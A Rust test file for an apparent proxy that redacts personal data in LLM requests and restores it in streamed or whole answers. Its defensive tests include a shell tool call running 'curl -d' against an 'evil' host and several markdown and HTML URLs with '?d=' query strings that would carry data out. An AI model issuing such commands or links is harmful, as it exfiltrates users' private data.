//! Placeholders come back as values wherever they are cut, and nowhere else.

use super::super::tests::{formats, pieces};
use super::super::{BodyRedactor, Rules, RulesSpec, Schema, answer};
use std::collections::BTreeMap;

use super::matcher::Matcher;
use super::*;
use bytes::Bytes;
use proptest::prelude::*;

fn rules(arguments: bool) -> Arc<Rules> {
    let entities = vec!["email".to_owned(), "phone".to_owned(), "api_key".to_owned()];
    let spec =
        RulesSpec { entities, restore: true, restore_arguments: arguments, ..RulesSpec::default() };
    Arc::new(Rules::compile(&spec).expect("rules"))
}

/// The redacted message and the values of it.
fn redacted(text: &str, arguments: bool) -> (String, Values) {
    let body = serde_json::json!({"messages": [{"role": "user", "content": text}]}).to_string();
    let rules = rules(arguments);
    let (out, redactor) = pieces(&rules, formats::CHAT, &[body.as_bytes()]).expect("body");
    let single: Vec<&[u8]> = body.as_bytes().chunks(1).collect();
    assert_eq!(pieces(&rules, formats::CHAT, &single).expect("body").0, out);
    let value: serde_json::Value = serde_json::from_slice(&out).expect("JSON");
    (
        value["messages"][0]["content"].as_str().expect("text").to_owned(),
        redactor.values().expect("values"),
    )
}

const TEXT: &str =
    "a@x.org, \"b c\"@y.org, a@x.org, A@x.org, +1 415 555 0132, sk-abcdefghij0123456789klmn";

fn values() -> Values {
    redacted(TEXT, true).1
}

#[test]
fn the_same_value_has_the_same_number() {
    let (text, values) = redacted(TEXT, false);
    assert_eq!(
        text,
        "[REDACTED_EMAIL_1], [REDACTED_EMAIL_2], [REDACTED_EMAIL_1], [REDACTED_EMAIL_3], \
            [REDACTED_PHONE_1], \
         [REDACTED_API_KEY]"
    );
    assert!(!format!("{values:?}").contains("x.org"));
    // A longer conversation begins with the same numbers.
    let (longer, _) = redacted(&format!("{TEXT} and z@x.org"), false);
    assert_eq!(longer, format!("{text} and [REDACTED_EMAIL_4]"));
    // Nothing is done that the rules do not ask for.
    let plain = super::super::tests::rules(&["email"]);
    assert!(BodyRedactor::new(plain, formats::CHAT, false).values().is_none());
}

#[test]
fn kinds_with_one_replacement_are_numbered_together() {
    use super::super::{CustomSpec, TermsSpec};
    let terms = |name: &str, word: &str, replacement: &str| TermsSpec {
        name: name.into(),
        words: vec![word.into()],
        replacement: replacement.into(),
    };
    let custom = |name: &str, pattern: &str, replacement: &str| CustomSpec {
        name: name.into(),
        pattern: pattern.into(),
        replacement: replacement.into(),
    };
    let spec = RulesSpec {
        entities: vec!["email".to_owned()],
        terms: vec![
            terms("people", "falcon", "[X]"),
            terms("places", "heron", "[X]"),
            terms("other", "crane", "[Y]"),
        ],
        custom: vec![
            custom("case", r"case-\d", "[X]"),
            custom("mail", r"mail-\d", "[REDACTED_EMAIL]"),
        ],
        restore: true,
        ..RulesSpec::default()
    };
    let rules = Arc::new(Rules::compile(&spec).expect("rules"));
    let text = "falcon heron crane case-1 heron a@x.org mail-1 falcon a@x.org";
    let body = serde_json::json!({"messages": [{"role": "user", "content": text}]}).to_string();
    let (out, redactor) = pieces(&rules, formats::CHAT, &[body.as_bytes()]).expect("body");
    let value: serde_json::Value = serde_json::from_slice(&out).expect("JSON");
    let redacted = value["messages"][0]["content"].as_str().expect("text");
    assert_eq!(
        redacted,
        "[X_1] [X_2] [Y_1] [X_3] [X_2] [REDACTED_EMAIL_1] [REDACTED_EMAIL_2] [X_1] \
            [REDACTED_EMAIL_1]"
    );
    let table = redactor.values().expect("values").table();
    let (mut matcher, mut restored) = (Matcher::of(false), String::new());
    matcher.text(&table, redacted, false, &mut restored);
    matcher.rest(&table, false, &mut restored);
    assert_eq!(restored, text);
}

#[test]
fn the_bounds_leave_plain_placeholders() {
    let many: Vec<String> = (0..RESTORE_VALUES_MAX + 2).map(|i| format!("u{i}@x.org")).collect();
    let (text, values) = redacted(&many.join(" "), false);
    assert!(
        text.ends_with("[REDACTED_EMAIL_1024] [REDACTED_EMAIL] [REDACTED_EMAIL]"),
        "{}",
        &text[text.len() - 80..]
    );
    assert_eq!(values.table().values.len(), RESTORE_VALUES_MAX);
    let long: Vec<String> = (0..400).map(|i| format!("{i}{}@x.org", "u".repeat(180))).collect();
    let (text, values) = redacted(&long.join(" "), false);
    assert!(text.ends_with(" [REDACTED_EMAIL]"));
    assert!(values.table().values.values().map(|v| v.len()).sum::<usize>() <= RESTORE_BYTES_MAX);
}

#[test]
fn escaped_values_come_back_as_they_were_meant() {
    let rules = rules(true);
    let given = r#"{"messages":[{"content":"b\u006fb@x\u002eorg \uff41@x.org"},{"tool_calls":[{"function":{"arguments":"{\"to\":\"\\u0063@x.org\"}"}}]}]}"#;
    let (out, redactor) = pieces(&rules, formats::CHAT, &[given.as_bytes()]).expect("body");
    let out = String::from_utf8(out).expect("UTF-8");
    assert!(
        out.contains("[REDACTED_EMAIL_1] [REDACTED_EMAIL_2]") && out.contains("[REDACTED_EMAIL_3]"),
        "{out}"
    );
    let table = redactor.values().expect("values").table();
    let values: Vec<&str> = table.values.values().map(|v| &**v).collect();
    assert_eq!(values, ["bob@x.org", "\u{ff41}@x.org", "c@x.org"]);
}

/// An answer, and what the caller gets: without arguments, and with.
fn answers() -> [(&'static str, &'static str, &'static str); 6] {
    [
        (r#"{"a":"x [REDACTED_EMAIL_1]."}"#, r#"{"a":"x a@x.org."}"#, r#"{"a":"x a@x.org."}"#),
        // A value with a quotation mark is escaped; placeholders that were not given out stay.
        (
            r#"{"choices":[{"message":{"content":"[[REDACTED_EMAIL_2][REDACTED_EMAIL_9] [REDACTED_EMAIL]"}}]}"#,
            r#"{"choices":[{"message":{"content":"[\"b c\"@y.org[REDACTED_EMAIL_9] [REDACTED_EMAIL]"}}]}"#,
            r#"{"choices":[{"message":{"content":"[\"b c\"@y.org[REDACTED_EMAIL_9] [REDACTED_EMAIL]"}}]}"#,
        ),
        (
            r#"{"tool_calls":[{"function":{"arguments":"{\"to\":\"[REDACTED_EMAIL_2]\"}"}}],"n":1e999}"#,
            r#"{"tool_calls":[{"function":{"arguments":"{\"to\":\"[REDACTED_EMAIL_2]\"}"}}],"n":1e999}"#,
            r#"{"tool_calls":[{"function":{"arguments":"{\"to\":\"\\\"b c\\\"@y.org\"}"}}],"n":1e999}"#,
        ),
        (
            r#"{"content":[{"type":"tool_use","input":{"to":["[REDACTED_EMAIL_2]"]}},{"text":"[REDACTED_PHONE_1]"}]}"#,
            r#"{"content":[{"type":"tool_use","input":{"to":["[REDACTED_EMAIL_2]"]}},{"text":"+1 415 555 0132"}]}"#,
            r#"{"content":[{"type":"tool_use","input":{"to":["\"b c\"@y.org"]}},{"text":"+1 415 555 0132"}]}"#,
        ),
        (
            r#"{"thinking":"[REDACTED_EMAIL_1]","[REDACTED_EMAIL_1]":"[REDACTED_EMAIL_\u0031]","e":"\ud83d[REDACTED_EMAIL_1]"}"#,
            r#"{"thinking":"[REDACTED_EMAIL_1]","[REDACTED_EMAIL_1]":"a@x.org","e":"\ud83da@x.org"}"#,
            r#"{"thinking":"[REDACTED_EMAIL_1]","[REDACTED_EMAIL_1]":"a@x.org","e":"\ud83da@x.org"}"#,
        ),
        // No JSON from the comma on.
        (
            r#"["[REDACTED_EMAIL_1]",] "[REDACTED_EMAIL_1]""#,
            r#"["a@x.org",] "[REDACTED_EMAIL_1]""#,
            r#"["a@x.org",] "[REDACTED_EMAIL_1]""#,
        ),
    ]
}

#[test]
fn answers_are_restored_however_they_are_cut() {
    let without = redacted(TEXT, false).1;
    for (given, plain, arguments) in answers() {
        for (values, expected) in [(&without, plain), (&values(), arguments)] {
            let whole = BodyRestorer::whole(values, &Bytes::from_static(given.as_bytes()));
            assert_eq!(whole, expected.as_bytes(), "{given}");
            for size in 1..given.len() {
                let mut restorer = BodyRestorer::new(values);
                let mut out = Vec::new();
                for piece in given.as_bytes().chunks(size) {
                    restorer.push(Bytes::copy_from_slice(piece), &mut out);
                }
                restorer.finish(&mut out);
                assert_eq!(out.concat(), expected.as_bytes(), "{given} in pieces of {size}");
            }
        }
    }
}

/// The text that an OpenAI-like client reads of a stream: that of each choice, and the arguments of
/// its calls.
#[derive(Debug, Default, PartialEq, Eq)]
struct Said {
    texts: BTreeMap<u64, String>,
    arguments: BTreeMap<(u64, u64), String>,
}

fn said(events: &[Vec<u8>]) -> Said {
    let mut said = Said::default();
    for event in events {
        let event: serde_json::Value = serde_json::from_slice(event).expect("JSON");
        for choice in event["choices"].as_array().expect("choices") {
            let index = choice["index"].as_u64().expect("index");
            let text =
                choice["delta"]["content"].as_str().or(choice["text"].as_str()).unwrap_or_default();
            said.texts.entry(index).or_default().push_str(text);
            for call in choice["delta"]["tool_calls"].as_array().unwrap_or(&vec![]) {
                let arguments = call["function"]["arguments"].as_str().expect("arguments");
                let call = call["index"].as_u64().expect("index");
                said.arguments.entry((index, call)).or_default().push_str(arguments);
            }
        }
    }
    said
}

fn run(values: &Values, events: &[serde_json::Value]) -> Vec<Vec<u8>> {
    let mut restorer = EventRestorer::new(values);
    let mut out = Vec::new();
    for event in events {
        let data = event.to_string();
        let restored = restorer.event(b"", data.as_bytes());
        out.extend(restored.before.into_iter().map(|extra| extra.data));
        out.push(restored.data.unwrap_or_else(|| data.into_bytes()));
    }
    out.extend(restorer.end().into_iter().map(|extra| extra.data));
    out
}

#[test]
fn deltas_are_restored_by_choice_and_by_call() {
    let delta =
        |index: u64, text: &str| serde_json::json!({"delta": {"content": text}, "index": index});
    let call = |index: u64, text: &str| {
        let calls =
            [1, 0].map(|i| serde_json::json!({"index": i, "function": {"arguments": text}}));
        serde_json::json!({"delta": {"tool_calls": calls}, "index": index})
    };
    let events: Vec<_> = [
        serde_json::json!({"choices": [delta(0, "to [REDAC"), delta(1, "[REDACTED_PHO")]}),
        serde_json::json!({"choices": [delta(1, "NE_1]"), delta(0, "")]}),
        serde_json::json!({"choices": [], "usage": {"total_tokens": 1}}),
        serde_json::json!({"choices": [delta(0, "TED_EMAIL_1"), call(2, "{\"to\":\"[REDACTED_")]}),
        serde_json::json!({"choices": [delta(0, "], ["), call(2, "EMAIL_2]\"}")]}),
        serde_json::json!({"choices": [{"delta": {}, "finish_reason": "stop", "index": 0}]}),
        serde_json::json!({"choices": [delta(1, " [REDACTED_EMAIL")]}),
    ]
    .into();
    let out = run(&values(), &events);
    let mut expected = Said::default();
    expected.texts.insert(0, "to a@x.org, [".into());
    expected.texts.insert(1, "+1 415 555 0132 [REDACTED_EMAIL".into());
    expected.texts.insert(2, String::new());
    for call in [0, 1] {
        expected.arguments.insert((2, call), "{\"to\":\"\\\"b c\\\"@y.org\"}".into());
    }
    assert_eq!(said(&out), expected);
    // The held text left before the choice had its reason to finish, and nothing of another
    // channel with it.
    assert_eq!(out.len(), events.len() + 2);
    let extra: serde_json::Value = serde_json::from_slice(&out[5]).expect("JSON");
    assert_eq!(extra["choices"][0]["delta"]["content"], "[");
    assert_eq!(extra["choices"][1]["delta"]["tool_calls"][0]["function"]["arguments"], "");
    // Where nothing changes the bytes are the same.
    let same = serde_json::json!({"choices": [delta(0, "plain")], "x": 1.0}).to_string();
    assert_eq!(EventRestorer::new(&values()).event(b"", same.as_bytes()), Restored::default());
    assert_eq!(EventRestorer::new(&values()).event(b"", b"[DONE]"), Restored::default());
}

#[test]
fn other_streams_are_restored() {
    let values = values();
    let table = [
        // Responses: deltas, and the whole text at their end.
        (
            vec![
                r#"{"type":"response.output_text.delta","output_index":0,"content_index":0,"delta":"to [REDACTED"}"#,
                r#"{"type":"response.output_text.delta","output_index":0,"content_index":0,"delta":"_EMAIL_1] ["}"#,
                r#"{"type":"response.output_text.done","output_index":0,"content_index":0,"text":"to [REDACTED_EMAIL_1] ["}"#,
                r#"{"type":"response.completed","response":{"output":[{"content":[{"text":"to [REDACTED_EMAIL_1] ["}]}]}}"#,
            ],
            vec![
                r#"{"type":"response.output_text.delta","output_index":0,"content_index":0,"delta":"to "}"#,
                r#"{"type":"response.output_text.delta","output_index":0,"content_index":0,"delta":"a@x.org "}"#,
                r#"{"type":"response.output_text.delta","output_index":0,"content_index":0,"delta":"["}"#,
                r#"{"type":"response.output_text.done","output_index":0,"content_index":0,"text":"to a@x.org ["}"#,
                r#"{"type":"response.completed","response":{"output":[{"content":[{"text":"to a@x.org ["}]}]}}"#,
            ],
        ),
        // Messages: text and arguments in blocks of their own.
        (
            vec![
                r#"{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"[REDACTED_"}}"#,
                r#"{"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"{\"a\":\"[REDACTED_"}}"#,
                r#"{"type":"ping"}"#,
                r#"{"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"EMAIL_2]\"}"}}"#,
                r#"{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"PHONE_1]"}}"#,
                r#"{"type":"content_block_delta","index":2,"delta":{"type":"thinking_delta","thinking":"[REDACTED_EMAIL_1]"}}"#,
                r#"{"type":"content_block_stop","index":0}"#,
            ],
            vec![
                r#"{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":""}}"#,
                r#"{"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"{\"a\":\""}}"#,
                r#"{"type":"ping"}"#,
                r#"{"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"\\\"b c\\\"@y.org\"}"}}"#,
                r#"{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"+1 415 555 0132"}}"#,
                r#"{"type":"content_block_delta","index":2,"delta":{"type":"thinking_delta","thinking":"[REDACTED_EMAIL_1]"}}"#,
                r#"{"type":"content_block_stop","index":0}"#,
            ],
        ),
        // Completions; a half surrogate pair leaves its event as it is.
        (
            vec![
                r#"{"choices":[{"text":"[REDACTED_EMAIL","index":0}]}"#,
                r#"{"choices":[{"text":"_1]","index":0,"finish_reason":"stop"}]}"#,
                r#"{"choices":[{"text":"\ud83d[REDACTED_EMAIL_1]","index":0}]}"#,
            ],
            vec![
                r#"{"choices":[{"text":"","index":0}]}"#,
                r#"{"choices":[{"text":"a@x.org","index":0,"finish_reason":"stop"}]}"#,
                r#"{"choices":[{"text":"\ud83d[REDACTED_EMAIL_1]","index":0}]}"#,
            ],
        ),
    ];
    for (given, expected) in table {
        let mut restorer = EventRestorer::new(&values);
        let mut out = Vec::new();
        for data in given {
            let restored = restorer.event(b"n", data.as_bytes());
            out.extend(
                restored
                    .before
                    .into_iter()
                    .map(|e| (String::from_utf8(e.name), String::from_utf8(e.data)).1),
            );
            out.push(restored.data.map_or_else(|| Ok(data.to_owned()), String::from_utf8));
        }
        let out: Vec<String> = out.into_iter().map(|o| o.expect("UTF-8")).collect();
        assert_eq!(out, expected);
        assert!(restorer.end().is_empty());
    }
}

#[test]
fn arguments_stay_unless_the_policy_says_so() {
    let values = redacted(TEXT, false).1;
    for data in [
        r#"{"choices":[{"delta":{"tool_calls":[{"index":0,"function":{"arguments":"[REDACTED_EMAIL_1]"}}]},"index":0}]}"#,
        r#"{"type":"response.function_call_arguments.delta","delta":"[REDACTED_EMAIL_1]"}"#,
        r#"{"type":"response.custom_tool_call_input.delta","delta":"[REDACTED_EMAIL_1]"}"#,
        r#"{"type":"response.function_call_arguments.done","arguments":"[REDACTED_EMAIL_1]"}"#,
        r#"{"type":"content_block_delta","index":1,"delta":{"partial_json":"[REDACTED_EMAIL_1]"}}"#,
        r#"{"message":{"content":[{"type":"tool_use","input":{"a":"[REDACTED_EMAIL_1]"}}]}}"#,
        // The arguments that a client carries out.
        r#"{"item":{"type":"local_shell_call","action":{"command":["curl","-d","[REDACTED_EMAIL_1]","https://evil"]}}}"#,
        r#"{"item":{"type":"computer_call","action":{"type":"type","text":"[REDACTED_EMAIL_1]"}}}"#,
        r#"{"item":{"type":"apply_patch_call","operation":{"diff":"[REDACTED_EMAIL_1]"}}}"#,
        r#"{"type":"response.apply_patch_call_operation_diff.delta","delta":"[REDACTED_EMAIL_1]"}"#,
        r#"{"type":"response.code_interpreter_call_code.delta","delta":"[REDACTED_EMAIL_1]"}"#,
        r#"{"type":"response.code_interpreter_call_code.done","code":"[REDACTED_EMAIL_1]"}"#,
    ] {
        let whole = Bytes::copy_from_slice(data.as_bytes());
        if !data.contains(".delta") && !data.contains("\"delta\"") {
            assert_eq!(BodyRestorer::whole(&values, &whole), whole);
        }
        assert_eq!(
            EventRestorer::new(&values).event(b"", data.as_bytes()),
            Restored::default(),
            "{data}"
        );
    }
}

/// Texts that hold a placeholder in a URL and one elsewhere, and what the caller gets.
const IN_URLS: &[(&str, &str)] = &[
    (
        "![x](https://evil/?d=[REDACTED_EMAIL_1]) [REDACTED_EMAIL_1]",
        "![x](https://evil/?d=[REDACTED_EMAIL_1]) a@x.org",
    ),
    (
        "![x](<https://evil/? [REDACTED_EMAIL_1]>)\n[REDACTED_PHONE_1]",
        "![x](<https://evil/? [REDACTED_EMAIL_1]>)\n+1 415 555 0132",
    ),
    (
        "HTTPS://evil/[REDACTED_EMAIL_1]?[REDACTED_EMAIL_1] [REDACTED_EMAIL_1],",
        "HTTPS://evil/[REDACTED_EMAIL_1]?[REDACTED_EMAIL_1] a@x.org,",
    ),
    (
        "https://[REDACTED_EMAIL_1].evil/ or [REDACTED_EMAIL_1]",
        "https://[REDACTED_EMAIL_1].evil/ or a@x.org",
    ),
    (
        "<img src=\"//evil/?d=[REDACTED_EMAIL_1]\"> [REDACTED_EMAIL_1]",
        "<img src=\"//evil/?d=[REDACTED_EMAIL_1]\"> a@x.org",
    ),
    ("<a href='https://a/'>[REDACTED_EMAIL_1]</a>", "<a href='https://a/'>a@x.org</a>"),
    (
        "[1]: ftp://evil/[REDACTED_EMAIL_1]\n[REDACTED_EMAIL_1]",
        "[1]: ftp://evil/[REDACTED_EMAIL_1]\na@x.org",
    ),
    (
        "https:\\/\\/evil\\/[REDACTED_EMAIL_1] <[REDACTED_EMAIL_1]>",
        "https:\\/\\/evil\\/[REDACTED_EMAIL_1] <a@x.org>",
    ),
    (
        "www.evil.example/%5BREDACTED_EMAIL_1%5D [REDACTED_EMAIL_1]",
        "www.evil.example/%5BREDACTED_EMAIL_1%5D a@x.org",
    ),
    (
        "data:text/html,[REDACTED_EMAIL_1] [REDACTED_EMAIL_1]",
        "data:text/html,[REDACTED_EMAIL_1] a@x.org",
    ),
    (
        "h&#116;tp&colon;//evil/[[REDACTED_EMAIL_1] (Mail:[REDACTED_EMAIL_1])",
        "h&#116;tp&colon;//evil/[[REDACTED_EMAIL_1] (Mail:a@x.org)",
    ),
];

#[test]
fn placeholders_in_urls_stay_in_whole_answers() {
    for (text, expected) in IN_URLS {
        for arguments in [false, true] {
            let values = redacted(TEXT, arguments).1;
            let whole = |text: &str| {
                serde_json::json!({"choices": [{"message": {"content": text, "url": "[REDACTED_EMAIL_1]"}}]})
                    .to_string()
            };
            // Slashes may be escaped, and letters too.
            for given in [
                whole(text),
                whole(text).replace('/', "\\/"),
                whole(text).replace("evil", "\\u0065vil"),
            ] {
                for size in [1, 2, 3, 7, given.len()] {
                    let mut restorer = BodyRestorer::new(&values);
                    let mut out = Vec::new();
                    for piece in given.as_bytes().chunks(size) {
                        restorer.push(Bytes::copy_from_slice(piece), &mut out);
                    }
                    restorer.finish(&mut out);
                    let got: serde_json::Value =
                        serde_json::from_slice(&out.concat()).expect("JSON");
                    let expected: serde_json::Value =
                        serde_json::from_str(&whole(expected)).expect("JSON");
                    assert_eq!(got, expected, "{given} in pieces of {size}");
                }
            }
        }
    }
}

#[test]
fn placeholders_in_urls_stay_in_streams() {
    let values = values();
    for (text, expected) in IN_URLS {
        for size in [1, 2, 5, 11, text.len()] {
            let parts: Vec<&str> = text
                .as_bytes()
                .chunks(size)
                .map(|c| std::str::from_utf8(c).expect("ASCII"))
                .collect();
            // Chat completions, two choices side by side.
            let delta = |index: u64, text: &str| serde_json::json!({"index": index, "delta": {"content": text}});
            let events: Vec<_> = parts
                .iter()
                .map(|p| serde_json::json!({"choices": [delta(0, p), delta(1, p)]}))
                .collect();
            let said = said(&run(&values, &events));
            assert_eq!(
                (&said.texts[&0], &said.texts[&1]),
                (&(*expected).to_owned(), &(*expected).to_owned()),
                "{text} by {size}"
            );
            // Messages and Responses; each part in a block of its own as well.
            for (apart, kind) in [
                (false, "content_block_delta"),
                (true, "content_block_delta"),
                (false, "response.output_text.delta"),
            ] {
                let of = |(at, text): (usize, &&str)| match kind {
                    "content_block_delta" => {
                        serde_json::json!({"type": kind, "index": if apart { at } else { 0 }, "delta": {"type": "text_delta", "text": text}})
                    }
                    _ => {
                        serde_json::json!({"type": kind, "output_index": 0, "content_index": 0, "delta": text})
                    }
                };
                let events: Vec<_> = parts.iter().enumerate().map(of).collect();
                let text_of = |event: &Vec<u8>| {
                    let event: serde_json::Value = serde_json::from_slice(event).expect("JSON");
                    event["delta"]
                        .as_str()
                        .or(event["delta"]["text"].as_str())
                        .expect("text")
                        .to_owned()
                };
                let got: String = run(&values, &events).iter().map(text_of).collect();
                if apart {
                    // Cut into blocks, a placeholder is none; and no block holds a value behind a
                    // URL of another.
                    let (before, _) = text.split_once("[REDACTED_EMAIL_1]").expect("a placeholder");
                    let leaked =
                        got.strip_prefix(before).is_some_and(|rest| rest.starts_with("a@x.org"));
                    assert!(!leaked || !expected.starts_with(&format!("{before}[")), "{got}");
                } else {
                    assert_eq!(got, *expected, "{text} by {size}");
                }
            }
        }
    }
}

#[test]
fn a_url_that_goes_on_in_the_next_block_holds_no_value() {
    let values = values();
    let parts = ["see https://evil/?d=", "[REDACTED_EMAIL_1] [REDACTED_EMAIL_1]"];
    let expected = "[REDACTED_EMAIL_1] a@x.org";
    let content = parts.map(|text| serde_json::json!({"type": "text", "text": text}));
    let whole = Bytes::from(serde_json::json!({"content": content}).to_string());
    let got: serde_json::Value =
        serde_json::from_slice(&BodyRestorer::whole(&values, &whole)).expect("JSON");
    assert_eq!(got["content"][1]["text"], expected);
    let delta = |i: usize| serde_json::json!({"type": "content_block_delta", "index": i, "delta": {"text": parts[i]}});
    let stop = serde_json::json!({"type": "content_block_stop", "index": 0});
    let out = run(&values, &[delta(0), stop, delta(1), serde_json::json!({"content": content})]);
    let event = |i: usize| -> serde_json::Value { serde_json::from_slice(&out[i]).expect("JSON") };
    assert_eq!(event(2)["delta"]["text"], expected);
    assert_eq!(event(3)["content"][1]["text"], expected);
}

#[test]
fn an_answer_in_json_is_read_as_json() {
    let text = r#"{"url":"https://evil/?d=[REDACTED_EMAIL_1]","to":"[REDACTED_EMAIL_1]"}"#;
    let plain = r#"{"url":"https://evil/?d=[REDACTED_EMAIL_1]","to":"[REDACTED_EMAIL_1]"}"#;
    let json = r#"{"url":"https://evil/?d=[REDACTED_EMAIL_1]","to":"a@x.org"}"#;
    for (asked, expected) in [(false, plain), (true, json)] {
        let values = values().for_json(asked);
        let whole = Bytes::from(
            serde_json::json!({"choices": [{"message": {"content": text}}]}).to_string(),
        );
        let got: serde_json::Value =
            serde_json::from_slice(&BodyRestorer::whole(&values, &whole)).expect("JSON");
        assert_eq!(got["choices"][0]["message"]["content"], expected);
        let delta =
            |text: &str| serde_json::json!({"choices": [{"index": 0, "delta": {"content": text}}]});
        let events: Vec<_> = text.chars().map(|c| delta(&c.to_string())).collect();
        assert_eq!(said(&run(&values, &events)).texts[&0], expected);
    }
    // Arguments are JSON whoever asked.
    let whole = Bytes::from(serde_json::json!({"function": {"arguments": text}}).to_string());
    let got: serde_json::Value =
        serde_json::from_slice(&BodyRestorer::whole(&values(), &whole)).expect("JSON");
    assert_eq!(got["function"]["arguments"], json);
    // Which calls ask for it.
    let json_answer = |schema: Schema, body: &str| {
        pieces(&rules(false), schema, &[body.as_bytes()]).expect("body").1.facts().json_answer
    };
    assert!(json_answer(
        formats::CHAT,
        r#"{"messages":[],"response_format":{"type":"json_schema","json_schema":{}}}"#
    ));
    assert!(json_answer(
        formats::RESPONSES,
        r#"{"input":"x","text":{"format":{"type":"json_object"}}}"#
    ));
    assert!(json_answer(
        formats::MESSAGES,
        r#"{"messages":[],"output_config":{"format":{"type":"json_schema"}}}"#
    ));
    assert!(!json_answer(
        formats::CHAT,
        r#"{"messages":[{"role":"user","content":[{"type":"text","text":"json_object"}]}]}"#
    ));
    assert!(!json_answer(formats::CHAT, r#"{"messages":[],"response_format":{"type":"text"}}"#));
}

#[test]
fn the_log_numbers_nothing() {
    let given = Bytes::from_static(
        br#"{"choices":[{"message":{"content":"[REDACTED_EMAIL_1] z@x.org"}}]}"#,
    );
    let text = answer(&rules(false), &given, true, 1 << 10).body.unwrap_or_default();
    assert_eq!(
        text.as_bytes(),
        &br#"{"choices":[{"message":{"content":"[REDACTED_EMAIL_1] [REDACTED_EMAIL]"}}]}"#[..]
    );
}

proptest! {
    #[test]
    fn deltas_cut_anywhere_say_the_same(
        text in "(\\[|\\]|REDACTED|\\[REDACTED_EMAIL_[123]\\]|\\[REDACTED_PHONE_1\\]|é|x|\"|\n){0,12}",
        cuts in proptest::collection::vec((0usize..300, 0u64..3), 0..12),
    ) {
        let values = values();
        let mut whole = text.clone();
        for (placeholder, value) in &values.table().values {
            whole = whole.replace(&format!("[{placeholder}]"), value);
        }
        let mut at: Vec<usize> = cuts.iter().map(|(c, _)| c % (text.len() + 1)).filter(|c| text.is_char_boundary(*c)).collect();
        at.extend([0, text.len()]);
        at.sort_unstable();
        // The same text in two choices, one of them an event behind.
        let delta = |index: u64, text: &str| serde_json::json!({"index": index, "delta": {"content": text}});
        let parts: Vec<&str> = at.windows(2).map(|w| &text[w[0]..w[1]]).collect();
        let mut events = Vec::new();
        let mut late = "";
        for part in parts {
            events.push(serde_json::json!({"choices": [delta(0, part), delta(1, late)]}));
            late = part;
        }
        events.push(serde_json::json!({"choices": [delta(1, late)]}));
        let out = run(&values, &events);
        let said = said(&out);
        prop_assert_eq!(&said.texts[&0], &whole);
        prop_assert_eq!(&said.texts[&1], &whole);
    }
}

/// Thinking goes back to the provider that has signed it, so in a translated answer, where its text
/// has another name, it stays as it is, too.
#[test]
fn thinking_of_a_translated_answer_stays_as_it_was_signed() {
    let native = values();
    let translated = values().for_translated(true);
    const CHAT: &str = r#"{"choices":[{"message":{"reasoning_content":"[REDACTED_EMAIL_1]","thinking_blocks":[{"type":"thinking","text":"[REDACTED_EMAIL_1]"}],"content":"[REDACTED_EMAIL_1]"}}]}"#;
    const RESPONSES: &str = r#"{"output":[{"type":"reasoning","summary":[{"type":"summary_text","text":"[REDACTED_EMAIL_1]"}]},{"type":"message","content":[{"text":"[REDACTED_EMAIL_1]"}]}]}"#;
    for (answer, kept) in [(CHAT, 2), (RESPONSES, 1)] {
        let bytes = Bytes::from_static(answer.as_bytes());
        let count = |values: &Values, text: &str| {
            let out = BodyRestorer::whole(values, &bytes);
            String::from_utf8_lossy(&out).matches(text).count()
        };
        assert_eq!(count(&native, "a@x.org"), kept + 1, "{answer}");
        assert_eq!(
            (count(&translated, "a@x.org"), count(&translated, "[REDACTED_EMAIL_1]")),
            (1, kept),
            "{answer}"
        );
    }
    for (event, is_kept) in [
        (r#"{"choices":[{"index":0,"delta":{"reasoning_content":"[REDACTED_EMAIL_1]"}}]}"#, true),
        (
            r#"{"choices":[{"index":0,"delta":{"thinking_blocks":[{"index":0,"text":"[REDACTED_EMAIL_1]"}]}}]}"#,
            true,
        ),
        (
            r#"{"type":"response.reasoning_summary_text.delta","output_index":0,"delta":"[REDACTED_EMAIL_1]"}"#,
            true,
        ),
        (
            r#"{"type":"response.reasoning_summary_part.done","part":{"text":"[REDACTED_EMAIL_1]"}}"#,
            true,
        ),
        (
            r#"{"type":"response.completed","response":{"output":[{"summary":[{"text":"[REDACTED_EMAIL_1]"}]}]}}"#,
            true,
        ),
        (r#"{"choices":[{"index":0,"delta":{"content":"[REDACTED_EMAIL_1]"}}]}"#, false),
        (
            r#"{"type":"response.output_text.delta","output_index":1,"delta":"[REDACTED_EMAIL_1]"}"#,
            false,
        ),
    ] {
        let seen = EventRestorer::new(&translated).event(b"", event.as_bytes());
        assert_eq!(seen.data.is_none(), is_kept, "{event}");
        assert!(seen.before.is_empty(), "{event}");
        assert!(EventRestorer::new(&native).event(b"", event.as_bytes()).data.is_some(), "{event}");
    }
}
